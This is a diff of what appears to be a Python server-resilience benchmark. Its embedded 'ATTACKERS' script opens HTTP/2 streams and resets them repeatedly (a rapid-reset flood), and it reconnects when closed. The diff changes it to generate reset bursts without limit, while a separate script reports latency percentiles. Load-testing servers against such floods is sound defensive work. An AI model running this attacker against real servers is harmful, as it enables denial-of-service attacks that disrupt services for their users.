@@ -69,7 +69,8 @@ times.sort()
 print(*(times[min(len(times) - 1, int(len(times) * share))] * 1e3 for share in (0.5, 0.99, 0.999)), len(times))
 """
 
-# Attackers in a process of their own: each opens a hundred streams and resets them, again and again; told to go away, it comes back.
+# Attackers in a process of their own: each opens a hundred streams and resets them, again and again, for as long as it can write;
+# when its connection is closed, it opens another.
 ATTACKERS = r"""
 import os, selectors, socket, ssl, struct, sys, time
 os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
@@ -91,7 +92,8 @@ def burst(first):
         parts.append(frame(3, 0, stream, struct.pack(">I", 8)))
     return b"".join(parts)
 
-BURSTS = [burst(first) for first in range(1, 200 * 50, 200)]
+# Made when they are first wanted, for all attackers.
+BURSTS = []
 
 class Attacker:
     def __init__(self):
@@ -118,7 +120,7 @@ class Attacker:
             pass
         if not self.out:
             if self.next == len(BURSTS):
-                raise OSError("no streams left")
+                BURSTS.append(burst(1 + 200 * len(BURSTS)))
             self.out = BURSTS[self.next]
             self.next += 1
             global streams
